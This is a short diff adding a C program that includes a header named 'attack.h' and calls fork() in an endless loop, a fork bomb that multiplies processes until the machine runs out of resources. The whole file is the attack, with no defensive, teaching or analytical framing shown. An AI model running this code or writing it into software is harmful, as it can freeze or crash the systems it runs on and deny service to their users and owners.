@@ -1,0 +1,5 @@
+/* Forks for ever, in every child. */
+#include "attack.h"
+int main(void) {
+    for (;;) fork();
+}
